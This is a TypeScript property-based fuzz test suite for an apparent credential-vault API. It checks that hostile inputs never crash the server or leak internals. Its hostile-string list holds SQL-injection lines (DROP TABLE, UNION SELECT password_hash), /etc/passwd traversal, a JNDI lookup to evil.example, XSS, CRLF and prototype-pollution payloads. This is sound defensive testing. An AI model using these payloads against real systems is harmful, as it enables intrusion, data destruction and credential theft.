// Hostile input never makes the server fail: fuzzed bodies, path ids and query strings against
// every JSON route, over both stores. Every error is the one envelope, without internals.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { errorCodes } from '@coffer/contracts/errors';
import fc from 'fast-check';
import { adminToken, call, createUser, dialects, type Harness, startHarness } from '../../test/harness.ts';

const RUNS_PER_ROUTE = 40;
const MiB = 1024 * 1024;

interface Reply {
  statusCode: number;
  headers: Record<string, unknown>;
  body: string;
}

const leakPatterns: Array<[string, RegExp]> = [
  ['stack trace', /\n\s+at |\bat [\w.<>]+ \(/],
  ['file path', /(\/(work|tmp|home|usr|var|root|opt)\/)|node_modules|\.ts:\d+|[A-Z]:\\/],
  ['SQL', /\b(select|insert|update|delete)\b[^"]{0,80}\b(from|into|set)\b|\bsyntax error\b|\bduplicate key\b|\bconstraint\b|\brelation "/i],
  ['driver', /SQLITE_|sqlite|postgres|\bpg\b|kysely|ECONNREFUSED/i],
  ['JS error', /\b(TypeError|ReferenceError|SyntaxError|RangeError)\b|\bundefined is not\b|Cannot read propert/],
];

/** Every key and string of a value (what a client sent, which an error may name back). */
function stringsOf(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v) stringsOf(x, out);
  else if (v && typeof v === 'object') {
    for (const [k, x] of Object.entries(v)) {
      out.push(k);
      stringsOf(x, out);
    }
  }
  return out;
}

/**
 * The one error body: exactly {error:{code,message,requestId[,details]}}, a known code, no
 * internals. `sent` are the client's own strings: an error may name an offending field back.
 */
function checkErrorBody(r: Reply, where: string, sent: string[] = []): { code: string } {
  let body: unknown;
  try {
    body = JSON.parse(r.body);
  } catch {
    assert.fail(`${where}: error body is not JSON: ${r.body.slice(0, 200)}`);
  }
  assert.ok(body && typeof body === 'object' && !Array.isArray(body), where);
  assert.deepEqual(Object.keys(body as object), ['error'], `${where}: ${r.body.slice(0, 300)}`);
  const e = (body as { error: Record<string, unknown> }).error;
  for (const k of Object.keys(e)) assert.ok(['code', 'message', 'requestId', 'details'].includes(k), `${where}: unexpected key ${k}`);
  assert.equal(typeof e.code, 'string', where);
  assert.ok((errorCodes as readonly string[]).includes(e.code as string), `${where}: unknown code ${String(e.code)}`);
  assert.equal(typeof e.message, 'string', where);
  assert.equal(e.requestId, r.headers['x-request-id'], `${where}: requestId echoes the header`);
  if (e.details !== undefined) {
    assert.ok(Array.isArray(e.details), where);
    for (const d of e.details as Array<Record<string, unknown>>) {
      assert.deepEqual(Object.keys(d).sort(), ['message', 'path'], where);
    }
  }
  // the random request id could spell a pattern by chance (e.g. `-pg-`): it is not ours to check
  let own = r.body.split(String(e.requestId)).join('');
  for (const x of [...sent].filter((x) => x.length > 0).sort((a, b) => b.length - a.length))
    own = own.split(JSON.stringify(x).slice(1, -1)).join('');
  for (const [what, re] of leakPatterns) assert.ok(!re.test(own), `${where}: ${what} in the error body: ${r.body.slice(0, 400)}`);
  return { code: e.code as string };
}

function checkReply(r: Reply, where: string, sent: string[] = []): void {
  assert.ok(r.statusCode < 500, `${where}: answered ${r.statusCode}: ${r.body.slice(0, 400)}`);
  if (r.statusCode >= 400) checkErrorBody(r, where, sent);
}

const hostileStrings = [
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "admin'--",
  "1'); DELETE FROM audit_log; --",
  '1; SELECT pg_sleep(5)',
  "' UNION SELECT password_hash FROM users --",
  'a\u0000b',
  '\u0000',
  '%00',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, on purpose
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\r\nSet-Cookie: x=1',
  '\u202eevil',
  '𝕏🦄👩‍👩‍👧',
  'ﬃ Ｕｓｅｒ',
  '\ud800',
  '\udfff\ud800',
  'NaN',
  '__proto__',
  'constructor',
  ' ',
  '',
  'usr_00000000000000000000000000',
  'cfs_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  '10.0.0.0/-1',
  '9999-99-99T99:99:99Z',
];

const arbString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 120 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 400_000 }).map((n) => 'Ω'.repeat(n)) },
);
const arbValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: arbString },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1e308, -0, 2 ** 53, []) },
  { weight: 1, arbitrary: fc.array(arbString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(arbString, arbString, { maxKeys: 3 }) },
);

/** Bodies for a route: random JSON, its own fields with hostile values, or a valid body with one hostile field. */
function arbBody(fields: string[], valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  const own = fc.record(Object.fromEntries(fields.map((f) => [f, arbValue])), { requiredKeys: [] });
  const oneBad = fc.tuple(fc.constantFrom(...fields), arbValue).map(([f, v]) => ({ ...valid, [f]: v }));
  return fc.oneof(
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    { weight: 3, arbitrary: own },
    { weight: 3, arbitrary: oneBad },
    { weight: 1, arbitrary: fc.dictionary(arbString, arbValue, { maxKeys: 5 }) },
    { weight: 1, arbitrary: fc.tuple(own, fc.dictionary(arbString, arbValue, { maxKeys: 2 })).map(([a, b]) => ({ ...b, ...a })) },
  );
}

for (const dialect of dialects) {
  describe(`hostile input never fails the server [${dialect}]`, () => {
    let h: Harness;
    let admin: string;
    let target: Awaited<ReturnType<typeof createUser>>;
    let groupId: string;
    let apiUserId: string;
    const send = async (method: string, url: string, payload: string | undefined, headers: Record<string, string> = {}): Promise<Reply> => {
      const r = await h.app.inject({
        method: method as 'POST',
        url,
        ...(payload !== undefined ? { payload } : {}),
        headers,
        remoteAddress: '198.51.100.10',
      });
      return { statusCode: r.statusCode, headers: r.headers as Record<string, unknown>, body: r.body };
    };
    const json = (token?: string) => ({ 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) });

    before(async () => {
      h = await startHarness(dialect);
      admin = await adminToken(h);
      target = await createUser(h, admin, 'password_user');
      const g = await call(h, 'POST', '/api/v1/groups', { token: admin, body: { name: 'fuzz-group' } });
      groupId = g.body.id;
      const api = await call(h, 'POST', '/api/v1/users', {
        token: admin,
        body: { username: 'fuzz-api', kind: 'api', role: 'password_user' },
      });
      apiUserId = api.body.id;
    });
    after(async () => h.close());

    const future = new Date(Date.now() + 86_400_000).toISOString();
    const routes: Array<{ method: 'POST' | 'PATCH'; path: string; auth: boolean; fields: string[]; valid: Record<string, unknown> }> = [
      {
        method: 'POST',
        path: '/api/v1/auth/login',
        auth: false,
        fields: ['username', 'password', 'totpCode', 'recoveryCode'],
        valid: { username: 'nobody-fuzz', password: 'x' },
      },
      {
        method: 'POST',
        path: '/api/v1/auth/refresh',
        auth: false,
        fields: ['refreshToken'],
        valid: { refreshToken: `cfr_${'A'.repeat(43)}` },
      },
      { method: 'POST', path: '/api/v1/sys/unseal', auth: false, fields: ['share', 'reset', 'nonce'], valid: { share: '1-00ff' } },
      {
        method: 'POST',
        path: '/api/v1/users',
        auth: true,
        fields: ['username', 'kind', 'password', 'firstName', 'email', 'role', 'allPasswords', 'mobile'],
        valid: { username: 'fuzz-user', password: 'fuzz-password-long', role: 'password_user' },
      },
      {
        method: 'PATCH',
        path: '/api/v1/users/:target',
        auth: true,
        fields: ['firstName', 'lastName', 'email', 'department', 'location', 'role', 'allPasswords', 'landline', 'currentPassword'],
        valid: { firstName: 'F' },
      },
      {
        method: 'POST',
        path: '/api/v1/users/:target/password',
        auth: true,
        fields: ['password'],
        valid: { password: 'another-long-password' },
      },
      { method: 'POST', path: '/api/v1/groups', auth: true, fields: ['name', 'description'], valid: { name: 'g' } },
      { method: 'PATCH', path: '/api/v1/groups/:group', auth: true, fields: ['name', 'description'], valid: { description: 'd' } },
      {
        method: 'POST',
        path: '/api/v1/me/api-keys',
        auth: true,
        fields: ['name', 'allowedCidrs', 'expiresAt', 'scopes', 'allowAnyAddress', 'currentPassword', 'totpCode'],
        valid: { name: 'k', allowedCidrs: ['10.0.0.0/8'], expiresAt: future, currentPassword: 'not-the-password' },
      },
      {
        method: 'POST',
        path: '/api/v1/users/:apiUser/api-keys',
        auth: true,
        fields: ['name', 'allowedCidrs', 'expiresAt', 'scopes', 'allowAnyAddress', 'currentPassword', 'recoveryCode'],
        valid: { name: 'k', allowedCidrs: ['10.0.0.1'], expiresAt: future, currentPassword: 'not-the-password' },
      },
      { method: 'POST', path: '/api/v1/me/totp/confirm', auth: true, fields: ['code'], valid: { code: '123456' } },
      {
        method: 'POST',
        path: '/api/v1/me/totp/disable',
        auth: true,
        fields: ['currentPassword', 'totpCode', 'recoveryCode'],
        valid: { currentPassword: 'not-the-password' },
      },
      {
        method: 'POST',
        path: '/api/v1/me/recovery-codes',
        auth: true,
        fields: ['currentPassword', 'totpCode', 'recoveryCode'],
        valid: { currentPassword: 'not-the-password', totpCode: '123456' },
      },
      {
        method: 'POST',
        path: '/api/v1/me/email',
        auth: true,
        fields: ['currentPassword', 'totpCode', 'email'],
        valid: { currentPassword: 'not-the-password', email: 'fuzz@example.com' },
      },
      {
        method: 'POST',
        path: '/api/v1/me/password',
        auth: true,
        fields: ['currentPassword', 'newPassword', 'totpCode'],
        valid: { currentPassword: 'not-the-password', newPassword: 'a-new-long-password' },
      },
      {
        method: 'POST',
        path: '/api/v1/admin-requests',
        auth: true,
        fields: ['operation', 'reason'],
        valid: { operation: { type: 'user.disable', userId: 'usr_00000000000000000000000000' }, reason: 'r' },
      },
    ];

    for (const route of routes) {
      it(`fuzzes the body of ${route.method} ${route.path} (${RUNS_PER_ROUTE} runs)`, async () => {
        const url = route.path.replace(':target', target.id).replace(':group', groupId).replace(':apiUser', apiUserId);
        const statuses = new Map<number, number>();
        await fc.assert(
          fc.asyncProperty(arbBody(route.fields, route.valid), async (body) => {
            const r = await send(route.method, url, JSON.stringify(body), json(route.auth ? admin : undefined));
            statuses.set(r.statusCode, (statuses.get(r.statusCode) ?? 0) + 1);
            checkReply(r, `${route.method} ${url} ${JSON.stringify(body).slice(0, 300)}`, stringsOf(body));
          }),
          { numRuns: RUNS_PER_ROUTE },
        );
        assert.ok(
          [...statuses.keys()].some((s) => s >= 400),
          `some bodies are refused: ${JSON.stringify([...statuses])}`,
        );
      });
    }

    it('fuzzes path ids of every route with an id', async () => {
      const templates: Array<[string, string]> = [
        ['GET', '/api/v1/users/:id'],
        ['PATCH', '/api/v1/users/:id'],
        ['DELETE', '/api/v1/users/:id'],
        ['POST', '/api/v1/users/:id/disable'],
        ['POST', '/api/v1/users/:id/enable'],
        ['POST', '/api/v1/users/:id/unlock'],
        ['POST', '/api/v1/users/:id/password'],
        ['GET', '/api/v1/users/:id/api-keys'],
        ['POST', '/api/v1/users/:id/api-keys'],
        ['DELETE', '/api/v1/api-keys/:id'],
        ['GET', '/api/v1/groups/:id'],
        ['PATCH', '/api/v1/groups/:id'],
        ['DELETE', '/api/v1/groups/:id'],
        ['PUT', '/api/v1/groups/:id/members/:userId'],
        ['DELETE', '/api/v1/groups/:id/members/:userId'],
        ['GET', '/api/v1/admin-requests/:id'],
        ['POST', '/api/v1/admin-requests/:id/approve'],
        ['POST', '/api/v1/admin-requests/:id/execute'],
      ];
      // path segments as sent on the wire: encoded text, or raw malformed percent-encodings
      const arbId = fc.oneof(
        fc.constantFrom(...hostileStrings.filter((s) => s !== '' && !/[\ud800-\udfff]/.test(s))).map(encodeURIComponent),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 80 }).map(encodeURIComponent),
        fc.stringMatching(/^[a-z]{3}_[0-9a-z]{26}$/),
        fc.integer({ min: 150, max: 400 }).map((n) => 'x'.repeat(n)),
        fc.constantFrom('%', '%zz', '%E0%A4%A', '%C0%AF', '%00', '..%2F..%2Fetc', '%2e%2e', '%FF%FE', 'usr_%00'),
      );
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...templates), arbId, arbId, async ([method, template], id, userId) => {
          const url = template.replace(':id', id).replace(':userId', userId);
          const body = method === 'POST' || method === 'PATCH' ? JSON.stringify({ name: 'x' }) : undefined;
          const r = await send(method, url, body, body ? json(admin) : { authorization: `Bearer ${admin}` });
          checkReply(r, `${method} ${url}`);
        }),
        { numRuns: 300 },
      );
    });

    it('fuzzes query strings of the list routes', async () => {
      const lists = [
        '/api/v1/users',
        '/api/v1/groups',
        '/api/v1/audit',
        '/api/v1/audit/export',
        '/api/v1/me/api-keys',
        `/api/v1/users/${'%s'}/api-keys`,
        '/api/v1/admin-requests',
      ];
      const arbQuery = fc.dictionary(
        fc.oneof(
          fc.constantFrom('cursor', 'limit', 'kind', 'actor', 'object', 'action', 'from', 'to', 'x', 'limit[]', 'a.b'),
          fc.string({ maxLength: 10 }),
        ),
        fc.oneof(
          arbString.filter((s) => s.length < 2000),
          fc.integer().map(String),
          fc.constantFrom('-1', '0', '1e9', '999999999999999999999', 'user.*', '*', '%', '_', 'user.%', '2020-01-01T00:00:00Z'),
        ),
        { maxKeys: 4 },
      );
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...lists), arbQuery, async (path, q) => {
          const params = new URLSearchParams();
          for (const [k, v] of Object.entries(q)) params.append(k, String(v).replace(/[\ud800-\udfff]/g, 'x'));
          const url = `${path.replace('%s', apiUserId)}?${params}`;
          const r = await send('GET', url, undefined, { authorization: `Bearer ${admin}` });
          // keys and values sent are echoed in validation details; only what is left is checked for leaks
          checkReply(r, `GET ${url.slice(0, 300)}`, [...Object.keys(q), ...Object.values(q).map(String)]);
        }),
        { numRuns: 300 },
      );
    });

    it('answers malformed URLs with the envelope and the usual headers', async () => {
      for (const url of [
        '/api/v1/users/%zz',
        '/api/v1/users/%E0%A4%A',
        `/api/v1/users/${'y'.repeat(250)}`,
        '/api/v1/groups/%',
        '/health/%zz',
      ]) {
        const r = await send('GET', url, undefined, { authorization: `Bearer ${admin}`, 'x-request-id': 'malformed-url-1' });
        assert.equal(r.statusCode, 400, `${url}: ${r.body}`);
        assert.equal(r.headers['x-request-id'], 'malformed-url-1');
        assert.equal(checkErrorBody(r, url).code, 'validation.failed');
        assert.equal(r.headers['x-content-type-options'], 'nosniff');
        assert.equal(r.headers['cache-control'], 'no-store');
        assert.ok(r.headers['content-security-policy']);
      }
    });

    it('refuses NUL characters in bodies, query strings and path ids with 400 (both stores)', async () => {
      const cases: Array<[string, string, unknown, string | undefined]> = [
        ['POST', '/api/v1/auth/login', { username: 'a\u0000b', password: 'x' }, undefined],
        ['POST', '/api/v1/groups', { name: 'a\u0000b' }, admin],
        ['POST', '/api/v1/groups', { name: 'ok', description: '\u0000' }, admin],
        ['POST', '/api/v1/users', { username: 'nul\u0000user', password: 'long-enough-password', role: 'password_user' }, admin],
        ['PATCH', `/api/v1/users/${target.id}`, { firstName: 'x\u0000' }, admin],
        ['GET', '/api/v1/audit?object=a%00b', undefined, admin],
        ['GET', '/api/v1/users?cursor=%00', undefined, admin],
        ['GET', '/api/v1/users/usr_%00', undefined, admin],
      ];
      for (const [method, url, body, token] of cases) {
        const r = await send(
          method,
          url,
          body === undefined ? undefined : JSON.stringify(body),
          body === undefined ? (token ? { authorization: `Bearer ${token}` } : {}) : json(token),
        );
        assert.equal(r.statusCode, 400, `${method} ${url}: ${r.body}`);
        assert.equal(checkErrorBody(r, url).code, 'validation.failed');
      }
    });

    it('the administrator session survived the fuzzing (the checks above ran authenticated)', async () => {
      assert.equal((await call(h, 'GET', '/api/v1/auth/whoami', { token: admin })).status, 200);
      const v = await call(h, 'GET', '/api/v1/audit/verify', { token: admin });
      assert.equal(v.body.ok, true, 'hostile input did not break the audit chain');
    });

    it('refuses a body over 1 MiB with 413 request.body_too_large', async () => {
      const big = JSON.stringify({ username: 'a', password: 'x'.repeat(MiB + 10) });
      for (const [url, token] of [
        ['/api/v1/auth/login', undefined],
        ['/api/v1/groups', admin],
      ] as const) {
        const r = await send('POST', url, big, json(token));
        assert.equal(r.statusCode, 413, url);
        assert.equal(checkErrorBody(r, url).code, 'request.body_too_large');
      }
      const justUnder = await send(
        'POST',
        '/api/v1/groups',
        JSON.stringify({ name: 'n', description: 'd'.repeat(MiB - 100) }),
        json(admin),
      );
      assert.equal(justUnder.statusCode, 400, 'under the limit the schema answers');
      assert.equal(checkErrorBody(justUnder, 'under').code, 'validation.failed');
    });

    it('refuses JSON nested deeper than 32 with 400 request.invalid_json', async () => {
      const nest = (d: number) => '['.repeat(d) + ']'.repeat(d);
      const deep = await send('POST', '/api/v1/auth/login', nest(33), json());
      assert.equal(deep.statusCode, 400);
      assert.equal(checkErrorBody(deep, 'deep').code, 'request.invalid_json');
      const deepObj = await send('POST', '/api/v1/groups', `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`, json(admin));
      assert.equal(checkErrorBody(deepObj, 'deep object').code, 'request.invalid_json');
      const veryDeep = await send('POST', '/api/v1/auth/login', nest(100_000), json());
      assert.equal(veryDeep.statusCode, 400);
      assert.equal(checkErrorBody(veryDeep, 'very deep').code, 'request.invalid_json');
      const ok = await send('POST', '/api/v1/auth/login', nest(32), json());
      assert.equal(ok.statusCode, 400);
      assert.equal(checkErrorBody(ok, 'depth 32').code, 'validation.failed', 'depth 32 parses (then fails the schema)');
      // brackets inside strings do not count
      const inString = await send(
        'POST',
        '/api/v1/auth/login',
        JSON.stringify({ username: '['.repeat(60), password: '{'.repeat(60) }),
        json(),
      );
      assert.equal(inString.statusCode, 401);
    });

    it('refuses prototype-pollution keys with 400', async () => {
      for (const payload of [
        '{"__proto__":{"x":1}}',
        '{"constructor":{"prototype":{}}}',
        '{"username":"a","password":"b","__proto__":{"isAdmin":true}}',
        '[{"a":{"__proto__":{"polluted":1}}}]',
        '{"prototype":1}',
      ]) {
        for (const [url, token] of [
          ['/api/v1/auth/login', undefined],
          ['/api/v1/users', admin],
        ] as const) {
          const r = await send('POST', url, payload, json(token));
          assert.equal(r.statusCode, 400, `${url} ${payload}`);
          assert.equal(checkErrorBody(r, payload).code, 'request.invalid_json');
        }
      }
      assert.equal(({} as Record<string, unknown>).x, undefined);
      assert.equal(({} as Record<string, unknown>).polluted, undefined);
      assert.equal(({} as Record<string, unknown>).isAdmin, undefined);
    });

    it('refuses other media types with 415 request.unsupported_media_type', async () => {
      for (const ct of [
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/json-patch+json',
      ]) {
        for (const [url, token] of [
          ['/api/v1/auth/login', undefined],
          ['/api/v1/groups', admin],
        ] as const) {
          const r = await send('POST', url, 'username=a&password=b', {
            'content-type': ct,
            ...(token ? { authorization: `Bearer ${token}` } : {}),
          });
          assert.equal(r.statusCode, 415, `${ct} ${url}: ${r.body}`);
          assert.equal(checkErrorBody(r, ct).code, 'request.unsupported_media_type');
        }
      }
      const charset = await send('POST', '/api/v1/auth/login', JSON.stringify({ username: 'x', password: 'y' }), {
        'content-type': 'application/json; charset=utf-8',
      });
      assert.equal(charset.statusCode, 401, 'JSON with a charset is JSON');
      const bad = await send('POST', '/api/v1/auth/login', '{"username": "a", ', json());
      assert.equal(bad.statusCode, 400);
      assert.equal(checkErrorBody(bad, 'truncated').code, 'request.invalid_json');
    });

    it('refuses credentials in the query string with 400 request.credentials_in_query', async () => {
      for (const [method, url, token] of [
        ['GET', '/api/v1/users?token=abc', admin],
        ['GET', '/api/v1/users?api_key=abc', admin],
        ['GET', '/api/v1/users?access_token=abc', undefined],
        ['GET', '/api/v1/audit?apiKey=abc&limit=1', admin],
        ['POST', '/api/v1/auth/login?password=abc', undefined],
        ['POST', '/api/v1/auth/refresh?refresh_token=abc', undefined],
        ['GET', '/health?token=abc', undefined],
      ] as const) {
        const r = await send(
          method,
          url,
          method === 'POST' ? JSON.stringify({ username: 'a', password: 'b' }) : undefined,
          method === 'POST' ? json(token) : token ? { authorization: `Bearer ${token}` } : {},
        );
        assert.equal(r.statusCode, 400, url);
        assert.equal(checkErrorBody(r, url).code, 'request.credentials_in_query');
      }
    });

    it('sets the security headers on every answer', async () => {
      const answers = [
        await send('GET', '/health', undefined),
        await send('GET', '/api/v1/users', undefined, { authorization: `Bearer ${admin}` }),
        await send('GET', '/api/v1/users', undefined),
        await send('GET', '/no/such/route', undefined),
        await send('POST', '/api/v1/auth/login', '{', json()),
        await send('POST', '/api/v1/auth/login', 'x', { 'content-type': 'text/plain' }),
        await send('GET', '/api/v1/openapi.json', undefined),
      ];
      for (const r of answers) {
        assert.equal(r.headers['x-content-type-options'], 'nosniff');
        assert.equal(r.headers['cache-control'], 'no-store');
        assert.match(String(r.headers['content-security-policy']), /default-src 'none'/);
        assert.match(String(r.headers['content-security-policy']), /frame-ancestors 'none'/);
        assert.equal(r.headers['x-frame-options'], 'DENY');
        assert.equal(r.headers['referrer-policy'], 'no-referrer');
        assert.match(String(r.headers['x-request-id']), /^[A-Za-z0-9._:-]{8,64}$/);
        assert.equal(r.headers['x-powered-by'], undefined);
      }
      const notFound = answers[3] as Reply;
      assert.equal(notFound.statusCode, 404);
      assert.equal(checkErrorBody(notFound, '404').code, 'not_found');
    });

    it('echoes a well-formed X-Request-Id and replaces a malformed one', async () => {
      const good = 'client-req.0001:abc_DEF';
      const kept = await send('GET', '/api/v1/users', undefined, { 'x-request-id': good });
      assert.equal(kept.headers['x-request-id'], good);
      assert.equal(checkErrorBody(kept, 'kept').code, 'auth.required');
      for (const bad of [
        'short',
        'has space in it',
        'x'.repeat(65),
        'bad/slash/value',
        '<script>',
        'a\tb-cdefgh',
        '日本語のリクエストID',
      ]) {
        const r = await send('GET', '/api/v1/users', undefined, { 'x-request-id': bad });
        const id = String(r.headers['x-request-id']);
        assert.notEqual(id, bad);
        assert.match(id, /^req_[A-Za-z0-9_-]{16}$/);
        checkErrorBody(r, `replaced ${bad}`);
      }
      const ok = await send('GET', '/health', undefined, { 'x-request-id': good });
      assert.equal(ok.statusCode, 200);
      assert.equal(ok.headers['x-request-id'], good);
    });
  });
}
